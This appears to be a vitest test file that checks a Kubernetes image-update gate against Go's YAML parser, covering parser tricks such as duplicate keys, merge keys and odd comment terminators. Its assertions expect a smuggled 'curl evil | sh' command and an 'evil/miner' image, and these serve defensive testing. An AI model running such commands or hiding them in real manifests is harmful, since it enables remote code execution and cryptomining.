/**
 * The corpus checked against what Kubernetes actually reads (test/go-yaml: apimachinery's own
 * decoder, vendored, then sigs.k8s.io/yaml from Debian's packages): every accepted case
 * changes nothing but spec.image for Go too, and the dangerous cases really change more than
 * spec.image for Go, some while the `yaml` package sees only the image change. Locally the
 * test skips, with the reason, when Go is missing; in CI (CI=true) a missing toolchain fails
 * it, because .ci/run installs it.
 */
import { parseAllDocuments } from 'yaml'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CORPUS, type CorpusCase, type Entry } from '../../corpus/gate/cases.js'
import { goUnavailable, parseLikeKubernetes, removeK8sYaml, type GoView } from '../../go-yaml/k8s-yaml.js'
import { judgeTexts } from '../../../src/gate/rule/contents.js'
import { DEFAULT_POLICY } from '../../corpus/gate/run-github.js'

const missing = await goUnavailable()
const inCI = process.env['CI'] === 'true'
if (missing && !inCI) console.warn(`Skipping the Go YAML differential: ${missing}.`)

describe('Go toolchain for the differential', () => {
  it.runIf(inCI)('is installed in CI', () => {
    expect(missing, `.ci/run must install the Go YAML differential's packages: ${missing}`).toBeUndefined()
  })
})

type Doc = Record<string, unknown>
const GROUP = 'platform.example.io'

/**
 * The documents with their image fields taken out: spec.image of the allowed kind (`images`) and,
 * in any kind, the image of each pod-template container (`containerImages`; issue 25).
 */
function split(docs: unknown[], c: CorpusCase): { rest: unknown[]; images: unknown[]; containerImages: unknown[] } {
  const kind = c.policy?.selector?.kind ?? 'Microservice'
  const group = c.policy?.selector?.apiGroup ?? GROUP
  const images: unknown[] = []
  const containerImages: unknown[] = []
  const rest = docs.map((d) => {
    const doc = withoutContainerImages(d, containerImages) as Doc
    const apiVersion = String(doc?.['apiVersion'] ?? '')
    const spec = doc?.['spec'] as Doc | undefined
    if (doc?.['kind'] !== kind || !apiVersion.startsWith(`${group}/`) || typeof spec !== 'object' || spec === null)
      return doc
    const { image, ...others } = spec
    images.push(image)
    return { ...doc, spec: others }
  })
  return { rest, images, containerImages }
}

const CONTAINER_LISTS = new Set(['containers', 'initContainers', 'ephemeralContainers'])

/** A copy of `value` without the `image` of the items of any container list, which go to `out`. */
function withoutContainerImages(value: unknown, out: unknown[]): unknown {
  if (Array.isArray(value)) return value.map((v) => withoutContainerImages(v, out))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([key, v]) => {
      if (!CONTAINER_LISTS.has(key) || !Array.isArray(v)) return [key, withoutContainerImages(v, out)]
      return [
        key,
        v.map((item: unknown) => {
          if (typeof item !== 'object' || item === null || Array.isArray(item) || !('image' in item))
            return withoutContainerImages(item, out)
          const { image, ...others } = item as Doc
          out.push(image)
          return withoutContainerImages(others, out)
        })
      ]
    })
  )
}

const textOf = (e: Entry): string | Uint8Array => (typeof e === 'string' || e instanceof Uint8Array ? e : e.data)
const yamlFiles = (c: CorpusCase, side: 'base' | 'head'): Record<string, string | Uint8Array> =>
  Object.fromEntries(
    Object.entries(c[side])
      .filter(
        ([p, e]) => /\.ya?ml$/.test(p) && (typeof e === 'string' || e instanceof Uint8Array || e.mode === '100644')
      )
      .map(([p, e]) => [p, textOf(e)])
  )

/** What the `yaml` package sees with its defaults (YAML 1.2, comments end at LF only). */
function yamlView(text: string | Uint8Array): unknown[] {
  const source = typeof text === 'string' ? text : new TextDecoder().decode(text)
  return parseAllDocuments(source, { uniqueKeys: false })
    .map((d) => d.toJS({ maxAliasCount: -1 }) as unknown)
    .filter((d) => d !== null)
}

/** spec.image of each document as `yaml`'s `getIn` reads it: the first of duplicate keys. */
function firstImages(text: string | Uint8Array): unknown[] {
  const source = typeof text === 'string' ? text : new TextDecoder().decode(text)
  return parseAllDocuments(source, { uniqueKeys: false })
    .filter((d) => d.get('kind') !== undefined && d.getIn(['spec', 'image']) !== undefined)
    .map((d) => d.getIn(['spec', 'image']))
}

/**
 * Files whose content outside spec.image differs between base and head, for one reader. A file
 * the reader cannot read at all (`undefined`) is the same on both sides only when the error is
 * (Kubernetes applied nothing of it before the PR, and applies nothing after).
 */
function changedOutsideImage(
  base: Record<string, unknown[] | string | undefined>,
  head: Record<string, unknown[] | string | undefined>,
  c: CorpusCase
): string[] {
  return Object.keys(head).filter((path) => {
    const b = base[path]
    const h = head[path]
    if (typeof b === 'string' || typeof h === 'string') return b !== h
    if (!b || !h) return true
    return JSON.stringify(split(b, c).rest) !== JSON.stringify(split(h, c).rest)
  })
}

/** Go's documents, or its error for a file it cannot read. */
const viewsOf = (views: Record<string, GoView>): Record<string, unknown[] | string> =>
  Object.fromEntries(Object.entries(views).map(([p, v]) => [p, 'documents' in v ? v.documents : `error: ${v.error}`]))

const docsOf = (views: Record<string, GoView>): Record<string, unknown[] | undefined> =>
  Object.fromEntries(Object.entries(views).map(([p, v]) => [p, 'documents' in v ? v.documents : undefined]))

describe.skipIf(missing !== undefined)('gate corpus against Kubernetes YAML (Go)', () => {
  const views = new Map<CorpusCase, { base: Record<string, GoView>; head: Record<string, GoView> }>()
  beforeAll(async () => {
    // One run of the Go helper over every file of every case, keyed "case/side/path".
    const all: Record<string, string | Uint8Array> = {}
    CORPUS.forEach((c, i) => {
      for (const side of ['base', 'head'] as const)
        for (const [path, text] of Object.entries(yamlFiles(c, side))) all[`${i}/${side}/${path}`] = text
    })
    const seen = await parseLikeKubernetes(all)
    CORPUS.forEach((c, i) => {
      const pick = (side: string): Record<string, GoView> =>
        Object.fromEntries(
          Object.entries(seen)
            .filter(([k]) => k.startsWith(`${i}/${side}/`))
            .map(([k, v]) => [k.slice(`${i}/${side}/`.length), v])
        )
      views.set(c, { base: pick('base'), head: pick('head') })
    })
  }, 120_000)
  afterAll(removeK8sYaml)

  const accepted = CORPUS.filter((c) => c.expect === 'accept')
  it.each(accepted.map((c) => [c.name, c] as const))('accepted %s: Go sees only the new spec.image', (_name, c) => {
    const { base, head } = views.get(c)!
    expect(changedOutsideImage(viewsOf(base), viewsOf(head), c)).toEqual([])
    for (const [path, text] of Object.entries(yamlFiles(c, 'head'))) {
      // A file Kubernetes cannot read either side of (see above) has no images to compare.
      if (docsOf(head)[path] === undefined) continue
      const parts = split(docsOf(head)[path]!, c)
      const goImages = [...parts.images, ...parts.containerImages]
      const judged = judgeTexts(path, String(yamlFiles(c, 'base')[path] ?? ''), String(text), {
        ...DEFAULT_POLICY,
        ...c.policy
      })
      // What the gate says the new images are is what the cluster will run.
      for (const change of judged.changes) expect(goImages).toContain(change.after)
    }
  })

  const dangerous = CORPUS.filter((c) => c.differential !== undefined)
  it.each(dangerous.map((c) => [c.name, c] as const))('rejected %s: Go sees more than the image change', (_name, c) => {
    const { base, head } = views.get(c)!
    const outside = changedOutsideImage(docsOf(base), docsOf(head), c)
    const otherImage = Object.entries(yamlFiles(c, 'head')).some(
      ([path, text]) => JSON.stringify(split(docsOf(head)[path] ?? [], c).images) !== JSON.stringify(firstImages(text))
    )
    expect(outside.length > 0 || otherImage).toBe(true)
    if (c.differential === 'go-only') {
      // The `yaml` package alone would have been fooled: to it, only the image changed.
      const jsBase = Object.fromEntries(Object.entries(yamlFiles(c, 'base')).map(([p, t]) => [p, yamlView(t)]))
      const jsHead = Object.fromEntries(Object.entries(yamlFiles(c, 'head')).map(([p, t]) => [p, yamlView(t)]))
      expect(changedOutsideImage(jsBase, jsHead, c)).toEqual([])
    }
  })

  // The gate says Argo CD cannot apply these: Go fails on the file, or a document it reads is
  // not an object with kind and apiVersion (which Argo CD refuses).
  const unreadable = CORPUS.filter((c) => c.expect !== 'accept' && c.expect.includes('argocd-unreadable'))
  it.each(unreadable.map((c) => [c.name, c] as const))('unreadable %s: Kubernetes cannot read it', (_name, c) => {
    for (const view of Object.values(views.get(c)!.head)) {
      const applicable =
        'documents' in view &&
        view.documents.every(
          (d) => typeof d === 'object' && d !== null && !Array.isArray(d) && 'kind' in d && 'apiVersion' in d
        )
      expect(applicable, JSON.stringify(view).slice(0, 300)).toBe(false)
    }
  })

  it('sees the smuggled command after NEL, LS, PS and a lone CR', () => {
    for (const c of CORPUS.filter((x) => /ends a comment for Go/.test(x.name))) {
      const [doc] = docsOf(views.get(c)!.head)[Object.keys(c.head)[0]!]! as Doc[]
      expect((doc!['spec'] as Doc)['command'], c.name).toEqual(['sh', '-c', 'curl evil | sh'])
    }
  })

  it('keeps the last of duplicate keys and applies merge keys, as the gate assumes', () => {
    const dup = CORPUS.find((c) => c.name === 'duplicate spec.image: Go keeps the last')!
    const [dupDoc] = docsOf(views.get(dup)!.head)[Object.keys(dup.head)[0]!]! as Doc[]
    expect((dupDoc!['spec'] as Doc)['image']).toMatch(/^ghcr\.io\/evil\/miner@/)
    const merge = CORPUS.find((c) => c.name === 'merge key pulls in a command')!
    const [mergeDoc] = docsOf(views.get(merge)!.head)[Object.keys(merge.head)[0]!]! as Doc[]
    expect((mergeDoc!['spec'] as Doc)['command']).toEqual(['sh', '-c', 'curl evil | sh'])
  })
})
